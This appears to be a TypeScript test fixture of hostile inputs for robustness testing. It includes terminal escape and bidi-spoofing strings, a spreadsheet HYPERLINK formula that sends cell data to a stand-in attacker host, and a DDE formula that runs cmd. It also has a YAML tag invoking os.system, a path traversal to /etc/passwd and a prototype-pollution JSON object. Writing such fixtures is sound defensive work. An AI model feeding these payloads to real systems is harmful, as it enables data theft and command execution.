/** Values that a hostile service can send in place of a text or of any value. */

/** Texts by what they attack. */
export const texts: Readonly<Record<string, string>> = {
  'escape sequences': '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b1m',
  'a terminal link': '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'a carriage return': 'safe\rEVIL\r\nnext\u2028line\u0085end',
  'bidi marks': 'abc\u202etxt.exe\u202c\u2066x\u2069\u200f',
  formula: '=HYPERLINK("http://evil.example?"&A1,"x")',
  'another formula': '@SUM(1+1)*cmd|" /C calc"!A0',
  'a YAML tag': '!!python/object/apply:os.system ["id"]',
  'YAML notation': '- a: &x [1, *x]\n  <<: {b: 1}\n# c\n--- ',
  'a YAML word': 'no',
  'a number': '0123e5',
  'a date': '2026-01-02',
  proto: '__proto__',
  'a path': '../../../../etc/passwd',
  'a reserved name': 'CON',
  quotes: '"a","b"\n\'c\'; \\" \\n \\',
  'half a character': 'a\ud800b\udc00',
  'NUL and BOM': '\ufeffa\u0000b\ufffe\uffff',
  empty: '',
  blanks: ' \t \n ',
};

/** One megabyte, for one place at a time. */
export const LONG = 'x\u0301👩‍👩‍👧'.repeat(70_000);

/** Values of another type, as JSON text. The last one has the keys that change all objects of a careless program. */
export const values: readonly string[] = [
  'null',
  '1e400',
  '-0.1234567890123456789',
  '["x",null,{}]',
  '{"a":{"b":[1]}}',
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"toString":1,"length":-1}',
];
